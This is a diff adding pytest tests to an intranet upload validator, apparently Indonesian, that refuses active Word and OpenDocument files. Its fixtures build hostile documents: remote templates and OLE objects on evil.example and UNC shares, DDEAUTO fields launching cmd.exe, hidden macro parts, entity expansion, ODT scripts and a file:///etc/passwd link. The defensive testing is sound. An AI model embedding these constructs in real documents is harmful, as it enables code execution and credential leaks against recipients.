@@ -8,6 +8,7 @@ no row and no stored file; benign files of the same shape are still accepted.
 
 import email
 import io
+import zipfile
 from email import policy
 from email.message import EmailMessage
 from pathlib import Path
@@ -25,6 +26,8 @@ from intranet import uploads
 from intranet.extensions import db
 from intranet.models import SourceFile
 from intranet.models import TeamDecree
+from intranet.uploads import DOCX
+from intranet.uploads import ODT
 from intranet.uploads import PDF
 from intranet.uploads import SOURCE_TYPES
 from intranet.uploads import UploadError
@@ -431,3 +434,404 @@ def test_sk_scan_accepts_a_benign_pdf(app, login):
     with app.app_context():
         numbers = db.session.execute(db.select(TeamDecree.number)).scalars().all()
         assert "12/HM.02-Kpt/3301/2026" in numbers
+
+
+# Word and OpenDocument files
+
+W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
+DOCX_TYPES = (
+    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
+    'content-types"><Default Extension="xml" ContentType="application/xml"/>'
+    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
+    'officedocument.wordprocessingml.document.main+xml"/></Types>'
+)
+
+
+def _zip(members):
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+        for name, data in members:
+            if name == "mimetype":
+                z.writestr(zipfile.ZipInfo("mimetype"), data)
+            else:
+                z.writestr(name, data)
+    return buf.getvalue()
+
+
+def _rels(*relationships):
+    body = "".join(
+        f'<Relationship Id="rId{i}" Type="{R}/{kind}" Target="{target}"'
+        + (' TargetMode="External"' if external else "")
+        + "/>"
+        for i, (kind, target, external) in enumerate(relationships, 1)
+    )
+    return f'<?xml version="1.0"?><Relationships xmlns="{PKG}">{body}</Relationships>'
+
+
+def _docx(body="<w:p><w:r><w:t>Undangan rapat</w:t></w:r></w:p>", rels=(), types=DOCX_TYPES):
+    members = [
+        ("[Content_Types].xml", types),
+        (
+            "_rels/.rels",
+            _rels(("officeDocument", "word/document.xml", False)),
+        ),
+        (
+            "word/document.xml",
+            f'<?xml version="1.0"?><w:document {W}><w:body>{body}</w:body></w:document>',
+        ),
+    ]
+    if rels:
+        members.append(("word/_rels/document.xml.rels", _rels(*rels)))
+    return _zip(members)
+
+
+def _field(*pieces):
+    """A complex field whose instruction is split over several runs, as Word writes it."""
+    runs = "".join(
+        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces
+    )
+    return (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        + runs
+        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
+        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+
+
+ODF_NS = (
+    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
+    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
+    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
+    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
+    'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
+    'xmlns:xlink="http://www.w3.org/1999/xlink"'
+)
+
+
+def _odt(text="<text:p>Undangan rapat</text:p>", meta="", manifest=""):
+    members = [
+        ("mimetype", ODT),
+        (
+            "content.xml",
+            f'<?xml version="1.0"?><office:document-content {ODF_NS}><office:body>'
+            f"<office:text>{text}</office:text></office:body></office:document-content>",
+        ),
+    ]
+    if meta:
+        members.append(
+            (
+                "meta.xml",
+                f'<?xml version="1.0"?><office:document-meta {ODF_NS}><office:meta>{meta}'
+                "</office:meta></office:document-meta>",
+            )
+        )
+    if manifest:
+        members.append(("META-INF/manifest.xml", manifest))
+    return members
+
+
+#: (id, name, the file, the message)
+HOSTILE_DOCUMENTS = [
+    (
+        "remote template",
+        "surat.docx",
+        lambda: _docx(rels=[("attachedTemplate", "https://evil.example/t.dotm", True)]),
+        "Dokumen ditolak: berisi tautan eksternal (attachedTemplate).",
+    ),
+    (
+        "template on a UNC share",
+        "surat.docx",
+        lambda: _docx(rels=[("attachedTemplate", "\\\\evil\\share\\t.dotm", True)]),
+        "Dokumen ditolak: berisi tautan eksternal (attachedTemplate).",
+    ),
+    (
+        "template on file://host",
+        "surat.docx",
+        lambda: _docx(rels=[("attachedTemplate", "file://evil/share/t.dotm", True)]),
+        "Dokumen ditolak: berisi tautan eksternal (attachedTemplate).",
+    ),
+    (
+        "remote OLE object",
+        "surat.docx",
+        lambda: _docx(rels=[("oleObject", "https://evil.example/x.rtf", True)]),
+        "Dokumen ditolak: berisi objek OLE atau ActiveX (oleObject).",
+    ),
+    (
+        "OLE object in a renamed part",
+        "surat.docx",
+        lambda: _docx(rels=[("oleObject", "media/image9.png", False)]),
+        "Dokumen ditolak: berisi objek OLE atau ActiveX (oleObject).",
+    ),
+    (
+        "remote frame",
+        "surat.docx",
+        lambda: _docx(rels=[("frame", "https://evil.example/f.html", True)]),
+        "Dokumen ditolak: berisi tautan eksternal (frame).",
+    ),
+    (
+        "image linked from a URL",
+        "surat.docx",
+        lambda: _docx(rels=[("image", "https://evil.example/pixel.png", True)]),
+        "Dokumen ditolak: berisi tautan eksternal (image).",
+    ),
+    (
+        "remote subdocument",
+        "surat.docx",
+        lambda: _docx(rels=[("subDocument", "\\\\evil\\share\\bab.docx", True)]),
+        "Dokumen ditolak: berisi tautan eksternal (subDocument).",
+    ),
+    (
+        "hyperlink to a UNC path",
+        "surat.docx",
+        lambda: _docx(rels=[("hyperlink", "file://evil/share/x.pdf", True)]),
+        "Dokumen ditolak: berisi tautan eksternal (hyperlink).",
+    ),
+    (
+        "w:object",
+        "surat.docx",
+        lambda: _docx("<w:p><w:r><w:object/></w:r></w:p>"),
+        "Dokumen ditolak: berisi objek OLE atau ActiveX (w:object).",
+    ),
+    (
+        "o:OLEObject under another prefix",
+        "surat.docx",
+        lambda: _docx(
+            '<w:p><w:r><x:OLEObject xmlns:x="urn:schemas-microsoft-com:office:office"'
+            ' Type="Link" ProgID="Package"/></w:r></w:p>'
+        ),
+        "Dokumen ditolak: berisi objek OLE atau ActiveX (o:OLEObject).",
+    ),
+    (
+        "ActiveX control",
+        "surat.docx",
+        lambda: _docx('<w:p><w:r><w:control w:name="x"/></w:r></w:p>'),
+        "Dokumen ditolak: berisi objek OLE atau ActiveX (w:control).",
+    ),
+    (
+        "DDEAUTO split over runs",
+        "surat.docx",
+        lambda: _docx(_field(" DDE", "AUTO c:\\\\windows\\\\system32\\\\cmd.exe ", '"/k calc"')),
+        "Dokumen ditolak: berisi perintah DDE (DDEAUTO).",
+    ),
+    (
+        "DDE simple field",
+        "surat.docx",
+        lambda: _docx(
+            '<w:fldSimple w:instr=" DDE cmd /c calc "><w:r><w:t>x</w:t></w:r></w:fldSimple>'
+        ),
+        "Dokumen ditolak: berisi perintah DDE (DDE).",
+    ),
+    (
+        "INCLUDEPICTURE from a UNC path",
+        "surat.docx",
+        lambda: _docx(_field(' INCLUDEPICTURE "\\\\\\\\evil\\\\share\\\\x.png" \\d ')),
+        "Dokumen ditolak: berisi tautan eksternal (INCLUDEPICTURE).",
+    ),
+    (
+        "macro-enabled document named .docx",
+        "surat.docx",
+        lambda: _docx(
+            types=DOCX_TYPES.replace(
+                "officedocument.wordprocessingml.document.main+xml",
+                "ms-word.document.macroEnabled.main+xml",
+            )
+        ),
+        "Dokumen ditolak: berisi makro (macroEnabled).",
+    ),
+    (
+        "macro project in a renamed part",
+        "surat.docx",
+        lambda: _docx(rels=[("vbaProject", "media/image1.png", False)]),
+        "Dokumen ditolak: berisi makro (vbaProject).",
+    ),
+    (
+        "entity expansion",
+        "surat.docx",
+        lambda: _zip(
+            [
+                ("[Content_Types].xml", DOCX_TYPES),
+                (
+                    "word/document.xml",
+                    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">'
+                    '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><d>&b;</d>',
+                ),
+            ]
+        ),
+        "Dokumen rusak.",
+    ),
+    (
+        "OLE object in an ODT",
+        "surat.odt",
+        lambda: _zip(_odt('<draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame>')),
+        "Dokumen ditolak: berisi objek OLE atau ActiveX (draw:object-ole).",
+    ),
+    (
+        "ODT object from a server",
+        "surat.odt",
+        lambda: _zip(
+            _odt('<draw:frame><draw:object xlink:href="https://evil.example/x.odt"/></draw:frame>')
+        ),
+        "Dokumen ditolak: berisi tautan eksternal (xlink:href).",
+    ),
+    (
+        "ODT image on a UNC share",
+        "surat.odt",
+        lambda: _zip(
+            _odt('<draw:frame><draw:image xlink:href="\\\\evil\\share\\x.png"/></draw:frame>')
+        ),
+        "Dokumen ditolak: berisi tautan eksternal (xlink:href).",
+    ),
+    (
+        "ODT image outside the package",
+        "surat.odt",
+        lambda: _zip(_odt('<draw:frame><draw:image xlink:href="../../x.png"/></draw:frame>')),
+        "Dokumen ditolak: berisi tautan eksternal (xlink:href).",
+    ),
+    (
+        "ODT link to a local file",
+        "surat.odt",
+        lambda: _zip(_odt('<text:p><text:a xlink:href="file:///etc/passwd">x</text:a></text:p>')),
+        "Dokumen ditolak: berisi tautan eksternal (xlink:href).",
+    ),
+    (
+        "ODT event listener",
+        "surat.odt",
+        lambda: _zip(
+            _odt(
+                '<office:event-listeners><script:event-listener script:event-name="dom:load"'
+                ' xlink:href="vnd.sun.star.script:Standard.Module1.Main"/>'
+                "</office:event-listeners>"
+            )
+        ),
+        "Dokumen ditolak: berisi skrip (script:event-listener).",
+    ),
+    (
+        "ODT inline script under another prefix",
+        "surat.odt",
+        lambda: _zip(
+            _odt(
+                '<o:scripts xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0">'
+                '<o:script script:language="ooo:Basic"/></o:scripts>'
+            )
+        ),
+        "Dokumen ditolak: berisi skrip (office:script).",
+    ),
+    (
+        "ODT DDE connection",
+        "surat.odt",
+        lambda: _zip(_odt('<text:dde-connection-decl text:name="x"/>')),
+        "Dokumen ditolak: berisi perintah DDE (text:dde-connection-decl).",
+    ),
+    (
+        "ODT template on a UNC share",
+        "surat.odt",
+        lambda: _zip(_odt(meta='<meta:template xlink:href="\\\\evil\\share\\t.ott"/>')),
+        "Dokumen ditolak: berisi tautan eksternal (meta:template).",
+    ),
+    (
+        "ODT encrypted parts",
+        "surat.odt",
+        lambda: _zip(
+            _odt(
+                manifest='<?xml version="1.0"?><m:manifest xmlns:m="urn:oasis:names:tc:'
+                'opendocument:xmlns:manifest:1.0"><m:file-entry m:full-path="content.xml">'
+                "<m:encryption-data/></m:file-entry></m:manifest>"
+            )
+        ),
+        "Dokumen terenkripsi tidak dapat diterima.",
+    ),
+]
+DOC_IDS = [h[0] for h in HOSTILE_DOCUMENTS]
+
+BENIGN_DOCUMENTS = [
+    ("plain DOCX", "surat.docx", lambda: _docx()),
+    (
+        "DOCX with web and mail links and a local template",
+        "surat.docx",
+        lambda: _docx(
+            rels=[
+                ("hyperlink", "https://kpu-cilacapkab.go.id/", True),
+                ("hyperlink", "mailto:humas@kpu-cilacapkab.go.id", True),
+                ("attachedTemplate", "file:///C:\\Users\\humas\\Templates\\Surat.dotx", True),
+                ("image", "media/image1.png", False),
+            ]
+        ),
+    ),
+    (
+        "DOCX with ordinary fields",
+        "surat.docx",
+        lambda: _docx(
+            _field(" PAGE ")
+            + _field(' HYPERLINK "https://kpu-cilacapkab.go.id/" ')
+            + _field(' INCLUDEPICTURE "https://kpu-cilacapkab.go.id/logo.png" \\* MERGEFORMATINET ')
+        ),
+    ),
+    ("plain ODT", "surat.odt", lambda: _zip(_odt())),
+    (
+        "ODT with links, a picture, a chart and a local template",
+        "surat.odt",
+        lambda: _zip(
+            _odt(
+                '<text:p><text:a xlink:href="https://kpu-cilacapkab.go.id/">situs</text:a>'
+                '<text:a xlink:href="#bab-2">bab 2</text:a></text:p>'
+                '<draw:frame><draw:image xlink:href="Pictures/logo.png"/></draw:frame>'
+                '<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame>',
+                meta='<meta:template xlink:href="../../Templates/surat.ott"/>',
+            )
+        ),
+    ),
+]
+
+
+@pytest.mark.parametrize("name, make, message", [h[1:] for h in HOSTILE_DOCUMENTS], ids=DOC_IDS)
+def test_active_office_content_is_refused_naming_it(app, name, make, message):
+    with app.test_request_context():
+        assert refusal(make(), name) == (message, 400)
+
+
+@pytest.mark.parametrize(
+    "name, make", [b[1:] for b in BENIGN_DOCUMENTS], ids=[b[0] for b in BENIGN_DOCUMENTS]
+)
+def test_benign_office_documents_are_accepted(app, name, make):
+    with app.test_request_context():
+        assert accepted(make(), name) == (DOCX if name.endswith(".docx") else ODT)
+
+
+@pytest.mark.parametrize("name, make, message", [h[1:] for h in HOSTILE_DOCUMENTS], ids=DOC_IDS)
+def test_agenda_upload_refuses_active_documents(app, login, name, make, message):
+    c = login("kontributor")
+    before = snapshot(app)
+    files = [(io.BytesIO(_pdf()), "baik.pdf"), (io.BytesIO(make()), name)]
+    r = c.post(
+        "/intranet/agenda/baru", data=form_material(files=files), content_type="multipart/form-data"
+    )
+    assert r.status_code == 400
+    assert f"{name}: {message}" in r.get_data(as_text=True)
+    assert snapshot(app) == before
+    assert _stored(app) == []
+
+
+@pytest.mark.parametrize("name, make, message", [h[1:] for h in HOSTILE_DOCUMENTS], ids=DOC_IDS)
+def test_eml_import_drops_active_document_attachments(app, login, name, make, message):
+    hostile = make()
+    msg = email.message_from_bytes(_eml_with(_pdf()), policy=policy.default)
+    msg.add_attachment(hostile, maintype="application", subtype="octet-stream", filename=name)
+    r = login("kontributor").post(
+        "/intranet/agenda/impor-eml",
+        data={
+            "eml": (io.BytesIO(msg.as_bytes()), "undangan.eml"),
+            "category_id": "1",
+            "sifat": "biasa",
+            "security_class": "biasa",
+        },
+        content_type="multipart/form-data",
+        follow_redirects=True,
+    )
+    assert r.status_code == 200
+    assert f"Lampiran dilewati: {name}: {message}" in r.get_data(as_text=True)
+    with app.app_context():
+        files = db.session.execute(db.select(SourceFile)).scalars().all()
+        assert sorted(f.mimetype for f in files) == ["application/pdf", "message/rfc822"]
+    assert all(hostile not in p.read_bytes() for p in _stored(app))
